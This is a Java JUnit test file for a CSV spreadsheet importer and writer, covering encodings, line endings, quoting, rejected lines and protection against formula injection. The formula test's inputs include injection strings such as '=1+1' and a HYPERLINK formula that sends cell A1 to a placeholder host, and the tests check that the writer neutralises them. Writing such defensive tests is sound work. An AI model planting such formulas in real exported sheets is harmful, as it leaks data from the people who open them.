package org.paperboy.sheet;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.SequenceInputStream;
import java.io.StringWriter;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.stream.LongStream;
import java.util.stream.Stream;
import java.util.stream.StreamSupport;

import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.paperboy.Fault;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

/**
 * Sheets are read as spreadsheets and people write them, and what cannot be read is named
 * by its line.
 */
class SheetTests {

	private static final List<String> COLUMNS = List.of("email", "keywords", "sendAt", "confirmed");

	private final List<Row> stored = new ArrayList<>();

	private RejectedLines rejected = new RejectedLines();

	private Imported read(InputStream in, @Nullable Charset charset) throws IOException {
		this.stored.clear();
		this.rejected = new RejectedLines();
		return SheetImport.of(new Sheet(in, charset, COLUMNS, "email"), (rows) -> {
			this.stored.addAll(rows);
			return List.of();
		}, this.rejected);
	}

	private Imported read(byte[] bytes, @Nullable Charset charset) throws IOException {
		return read(new ByteArrayInputStream(bytes), charset);
	}

	private Imported read(String text) throws IOException {
		return read(text.getBytes(StandardCharsets.UTF_8), null);
	}

	private List<String> cells(String column) {
		return this.stored.stream().map((row) -> row.cell(column).orElse("")).toList();
	}

	private static List<Long> lines(Imported imported) {
		return StreamSupport.stream(imported.rejected().spliterator(), false).map(Imported.Rejected::line).toList();
	}

	private UnreadableSheetException refused(byte[] bytes, @Nullable Charset charset) {
		return catchThrowableOfType(UnreadableSheetException.class, () -> read(bytes, charset));
	}

	private static byte[] bytes(String mark, String text, Charset charset) throws IOException {
		return new SequenceInputStream(new ByteArrayInputStream(mark.getBytes(StandardCharsets.ISO_8859_1)),
				new ByteArrayInputStream(text.getBytes(charset)))
			.readAllBytes();
	}

	private static final String ZURICH = "email,keywords\nz\u00FCrich@example.org,\u00E9cole\n";

	@ParameterizedTest
	@CsvSource({ "UTF-8, ''", "UTF-8, '\u00EF\u00BB\u00BF'", "UTF-16LE, '\u00FF\u00FE'", "UTF-16BE, '\u00FE\u00FF'",
			"UTF-32LE, '\u00FF\u00FE\u0000\u0000'", "UTF-32BE, '\u0000\u0000\u00FE\u00FF'" })
	void aByteOrderMarkSaysTheEncoding(Charset charset, String mark) throws IOException {
		for (Charset named : new Charset[] { null, StandardCharsets.UTF_8, StandardCharsets.ISO_8859_1 }) {
			if (!mark.isEmpty() || !StandardCharsets.ISO_8859_1.equals(named)) {
				assertThat(read(bytes(mark, ZURICH, charset), named).imported()).isOne();
				assertThat(cells("email")).containsExactly("z\u00FCrich@example.org");
			}
		}
	}

	@ParameterizedTest
	@ValueSource(strings = { "windows-1252", "ISO-8859-15", "UTF-16LE", "UTF-16BE", "UTF-16", "IBM850", "MacRoman",
			"UTF-32", "GB18030" })
	void withoutAMarkTheNamedEncodingHolds(Charset charset) throws IOException {
		assertThat(read(ZURICH.getBytes(charset), charset).imported()).isOne();
		assertThat(cells("keywords")).containsExactly("\u00E9cole");
	}

	@Test
	void utf16WithoutAMarkIsReadAsWindowsWritesIt() throws IOException {
		assertThat(read(ZURICH.getBytes(StandardCharsets.UTF_16LE), StandardCharsets.UTF_16).imported()).isOne();
		assertThat(refused(ZURICH.getBytes(StandardCharsets.UTF_16LE), null)).hasMessageContaining("Line 1 holds NUL");
		assertThat(refused(ZURICH.getBytes(StandardCharsets.UTF_16BE), null)).hasMessageContaining("Line 1 holds NUL");
	}

	@ParameterizedTest
	@ValueSource(ints = { 2, 3, 499, 502, 9000 })
	void anotherEncodingIsRefusedAtItsLine(int line) throws IOException {
		String good = "good@example.org,x\n".repeat(line - 2);
		byte[] file = ("email,keywords\n" + good + "b\u00E4d@example.org,x\n" + "more@example.org,x\n".repeat(700))
			.getBytes(StandardCharsets.ISO_8859_1);
		UnreadableSheetException refused = refused(file, null);
		assertThat(refused).hasMessageContaining("Line " + line + " is not UTF-8");
		assertThat(refused.before().imported()).isEqualTo(line - 2);
		assertThat(this.stored).hasSize(line - 2);
	}

	@Test
	void aFileThatEndsWithinALetterIsRefused() {
		byte[] cut = "email\na@example.org\n\u00E4".getBytes(StandardCharsets.UTF_8);
		assertThat(refused(Arrays.copyOf(cut, cut.length - 1), null)).hasMessageContaining("Line 3 is not");
		assertThat(refused(Arrays.copyOf(cut, cut.length - 1), null).before().imported()).isOne();
		assertThat(refused(new byte[] { 'e', 'm', 'a', 'i', 'l', '\r', (byte) 0x81, '@' },
				Charset.forName("windows-1252")))
			.hasMessageContaining("Line 2 is not windows-1252");
	}

	@ParameterizedTest
	@ValueSource(strings = { "\n", "\r\n", "\r" })
	void anyEndOfLineWillDo(String end) throws IOException {
		Imported imported = read(
				String.join(end, "", "email,keywords", "a@example.org,x", "", "b@example.org,\"x", "", "", ""));
		assertThat(cells("email")).containsExactly("a@example.org");
		assertThat(lines(imported)).containsExactly(5L);
	}

	@Test
	void endsOfLinesMayBeMixed() throws IOException {
		read("email,keywords\r\na@example.org,x\rb@example.org,y\nc@example.org,z");
		assertThat(cells("email")).containsExactly("a@example.org", "b@example.org", "c@example.org");
		assertThat(this.stored).extracting(Row::line).containsExactly(2L, 3L, 4L);
	}

	@ParameterizedTest
	@ValueSource(strings = { "email;keywords\na@example.org;\"x;y\"", "sep=;\nemail;keywords\na@example.org;\"x;y\"",
			"\"sep=|\"\r\nemail|keywords\na@example.org|x;y", "email\tkeywords\na@example.org\tx;y",
			"email|keywords\na@example.org|x;y", "E-Mail , KEY WORDS\na@example.org,x;y",
			"\uFEFF\"email\",\"keywords\"\na@example.org,x;y", "email,keywords,,\na@example.org,x;y,,\n,,,\n",
			"e_mail,Keywords\n a@example.org\u00A0,\tx;y ", "email,keywords\na@example.org, \"x;y\" ",
			"email,keywords\n\"a@example.org\"\u00A0,\t\"x;y\"", "email,keywords\na@example.org,\u201Cx;y\u201D",
			"keywords,sendAt,email\n\"x;y\",,a@example.org", "email,keywords\na@example.org,x;y,,,",
			"email,keywords\r\na@example.org,x;y\r\n\u001A" })
	void headersAndCellsAreReadAsTheyCome(String text) throws IOException {
		Imported imported = read(text);
		assertThat(imported.imported()).isOne();
		assertThat(imported.rejected()).isEmpty();
		assertThat(cells("email")).containsExactly("a@example.org");
		assertThat(cells("keywords")).containsExactly("x;y");
	}

	@ParameterizedTest
	@CsvSource({ "email=born, born", "keywords=x, email", "'', email", "email=EMAIL, email", "sendAt, email",
			"a@example.org=true, email" })
	void aHeaderThatIsNotAsExpectedIsNamed(String header, String column) {
		assertThat(
				refused((header.replace('=', ',') + "\na@example.org").getBytes(StandardCharsets.UTF_8), null).faults())
			.containsKey(column);
	}

	@ParameterizedTest
	@CsvSource({ "504b030414, .xlsx", "d0cf11e0a1b1, .xls", "255044462d312e37, PDF", "1f8b0800, .gz",
			"7b5c727466, .rtf" })
	void aFileOfAnotherKindIsCalledWhatItIs(String bytes, String kind) {
		assertThat(refused(HexFormat.of().parseHex(bytes), null)).hasMessageContaining(kind)
			.hasMessageContaining("save it as CSV");
	}

	@Test
	void aHeaderAloneIsAnEmptyTable() throws IOException {
		Imported imported = read("email,keywords");
		assertThat(imported.imported()).isZero();
		assertThat(imported.rejected()).isEmpty();
	}

	@Test
	void quotesWithinCellsAreText() throws IOException {
		read("email,keywords\na@example.org,5\" disk\nb@example.org,\"say \"\"hello\"\", you\"\nc@example.org,\"\"");
		assertThat(cells("keywords")).containsExactly("5\" disk", "say \"hello\", you", "");
	}

	@ParameterizedTest
	@ValueSource(strings = { "b@example.org,\"x", "b@example.org,\"x,true", "\"b@example.org,x,true",
			"\"b\"@example.org,x", "b@example.org,\"say \\\"x\\\"\"", "b@example.org,\"x\"y", "\"" })
	void aWrongQuoteCostsItsOwnLine(String line) throws IOException {
		Imported imported = read("email,keywords,confirmed\na@example.org,x,true\n" + line
				+ "\nc@example.org,x,true\nd@example.org,\"y\",true");
		assertThat(cells("email")).containsExactly("a@example.org", "c@example.org", "d@example.org");
		assertThat(imported.imported()).isEqualTo(3);
		assertThat(lines(imported)).containsExactly(3L);
	}

	@Test
	void aQuoteIsNamedByTheLineWhereItBegan() throws IOException {
		Imported imported = read("email,keywords\n\"a@example.org\n\",\"x\nb@example.org,y\nc@example.org,z");
		assertThat(lines(imported)).containsExactly(3L);
		assertThat(cells("email")).containsExactly("b@example.org", "c@example.org");
	}

	@Test
	void aCellOverSeveralLinesCountsThem() throws IOException {
		read("email,keywords\na@example.org,\"x\r\ny\"\r\nb@example.org,z");
		assertThat(this.stored).extracting(Row::line).containsExactly(2L, 4L);
		assertThat(cells("keywords")).containsExactly("x\r\ny", "z");
	}

	@ParameterizedTest
	@ValueSource(strings = { ",,\n", "\n,,\n\n", ";;\n", "\t\t\n", "\"\",\"\"\n", " , \n" })
	void blankRowsMayStandBeforeTheHeader(String blank) throws IOException {
		assertThat(read(blank + ",email,keywords\n,a@example.org,x\n,,\n").imported()).isOne();
		assertThat(cells("keywords")).containsExactly("x");
	}

	@ParameterizedTest
	@ValueSource(strings = { "a\rb", "a\nb", "a\r\nb", "a\r\rb", "a\n\rb", "a\r=b", "a\u0085b" })
	void aCellKeepsTheEndsOfItsLines(String cell) throws IOException {
		StringWriter written = new StringWriter();
		SheetWriter sheet = new SheetWriter(written, List.of("email", "keywords"));
		sheet.row("a@example.org", cell);
		sheet.flush();
		for (String ends : new String[] { "\r\n", "\n", "\r" }) {
			read("email,keywords" + ends + written.toString().split("\r\n", 2)[1] + "b@example.org,x" + ends);
			assertThat(cells("keywords")).containsExactly(cell, "x");
		}
	}

	@Test
	void aLineThatIsTooLongIsLeftOut() throws IOException {
		Imported imported = read("email,keywords\na@example.org," + "x".repeat(200_000) + "\nb@example.org,\""
				+ "x".repeat(200_000) + "\"\nc@example.org,\"" + "x\n".repeat(100_000));
		assertThat(imported.imported()).isGreaterThan(99_000);
		assertThat(imported.rejected()).extracting(Imported.Rejected::line).containsExactly(2L, 3L, 4L);
		assertThat(imported.rejected()).first()
			.extracting(Imported.Rejected::reason)
			.asString()
			.startsWith("INVALID line is longer than");
	}

	@Test
	void aBadByteBehindAQuoteLosesNoLine() {
		byte[] file = "email,keywords\na@example.org,x\nb@example.org,\"x\nc@example.org,y\n\u00E4@example.org,z"
			.getBytes(StandardCharsets.ISO_8859_1);
		UnreadableSheetException refused = refused(file, null);
		assertThat(refused).hasMessageContaining("Line 5 is not UTF-8");
		assertThat(refused.before().imported()).isEqualTo(2);
		assertThat(lines(refused.before())).containsExactly(3L);
	}

	@Test
	void moreCellsThanTheHeaderAreRefused() throws IOException {
		Imported imported = read("email,keywords\na@example.org,x,y\nb@example.org\n");
		assertThat(imported.rejected())
			.containsExactly(new Imported.Rejected(2, "INVALID line has more cells than the header"));
		assertThat(cells("keywords")).containsExactly("");
	}

	@Test
	@Fault("T91 a million bad rows")
	void aMillionRowsNeedTheMemoryOfAFew() throws IOException {
		InputStream rows = new InputStream() {

			private final byte[] row = "a@example.org,x\n".getBytes(StandardCharsets.UTF_8);

			private long at;

			@Override
			public int read() {
				return (this.at == 1_000_000L * this.row.length) ? -1 : this.row[(int) (this.at++ % this.row.length)];
			}

		};
		InputStream header = new ByteArrayInputStream("email,keywords\n".getBytes(StandardCharsets.UTF_8));
		Imported imported = SheetImport.of(new Sheet(new SequenceInputStream(header, rows), null, COLUMNS, "email"),
				(some) -> {
					assertThat(some.size()).isLessThanOrEqualTo(1000);
					return some.stream().map((row) -> new Imported.Rejected(row.line(), "LEFT")).toList();
				}, this.rejected);
		assertThat(imported.rejected()).hasSize(1_000_000).last().isEqualTo(new Imported.Rejected(1_000_001, "LEFT"));
		this.rejected.close();
	}

	@ParameterizedTest
	@ValueSource(strings = { "=1+1", "+1", "-1", "-", "@x", "'=1", "''=1", "'-", "'", "''", "'Oumuamua", "\uFF1D1",
			"\uFF0B", "\uFF0D", "\uFF20x", "\u2212", "a;=1", "a, -b;+c", "a,=1", "\"=1", "x\"\"=1", "c++;-java", "",
			"a=b", "a-b", "=", "'=1;'=2", ",=", ";;=", "= =", "a,'=1", "=HYPERLINK(\"http://x.example/?\"&A1,\"k\")" })
	@Fault("T91 formulas in cells")
	void noCellBeginsAFormulaAndEachComesBack(String text) throws IOException {
		StringBuilder csv = new StringBuilder();
		SheetWriter writer = new SheetWriter(csv, COLUMNS);
		writer.row("a@example.org", text, null, true);
		writer.flush();
		String cell = csv.toString().lines().skip(1).findFirst().orElseThrow().split("\",\"")[1];
		assertThat(cell).doesNotContainPattern("^[=+@\uFF1D\uFF0B\uFF0D\uFF20\u2212-]")
			.doesNotContainPattern("[;,\"] *[=+@-]");
		read(csv.toString());
		assertThat(cells("keywords")).containsExactly(text);
		assertThat(this.stored.getFirst().empties("keywords")).isFalse();
	}

	@ParameterizedTest
	@CsvSource(quoteCharacter = '|',
			value = { "|a \"quoted\"\n|, |a \"quoted\"|", "|a,\r\n|, |a,|", "|a;\t|, |a;|", "|\n=1|, |=1|" })
	void blanksAtAnEndLeaveNoGuardBehind(String text, String back) throws IOException {
		StringBuilder csv = new StringBuilder();
		SheetWriter writer = new SheetWriter(csv, COLUMNS);
		writer.row("a@example.org", text, null, true);
		writer.flush();
		read(csv.toString());
		assertThat(cells("keywords")).containsExactly(back);
	}

	@Test
	void everyTextOfAwkwardSignsComesBack() {
		String signs = "='+-@,;\" a\uFF1D";
		List<String> texts = Stream
			.iterate(List.of(""), (some) -> some.size() < 1_000_000,
					(some) -> some.stream().flatMap((text) -> signs.chars().mapToObj((c) -> text + (char) c)).toList())
			.reduce((one, other) -> other)
			.orElseThrow();
		assertThat(texts).hasSizeGreaterThan(100_000)
			.allMatch((text) -> Formulas.unguarded(Formulas.guarded(text)).equals(text));
	}

	@Test
	void aLoneHyphenEmpties() throws IOException {
		read("email,keywords\na@example.org,-\nb@example.org,\" - \"\nc@example.org,'-\nd@example.org,");
		assertThat(this.stored).extracting((row) -> row.empties("keywords")).containsExactly(true, true, false, false);
	}

	@Test
	void manyRejectedLinesAreKeptInTheirOrder() throws IOException {
		String longer = "\u00E4".repeat(100);
		StringBuilder text = new StringBuilder("email,keywords\n");
		for (int i = 2; i < 5000; i++) {
			text.append("a@example.org,x,").append(longer).append('\n');
		}
		Imported imported = read(text.append("b@example.org,x").toString());
		assertThat(imported.imported()).isOne();
		assertThat(this.rejected.count()).isEqualTo(4998);
		for (int times = 0; times < 2; times++) {
			assertThat(lines(imported)).containsExactlyElementsOf(LongStream.range(2, 5000).boxed().toList());
		}
		assertThat(imported.rejected()).last()
			.isEqualTo(new Imported.Rejected(4999, "INVALID line has more cells than the header"));
		this.rejected.close();
	}

}
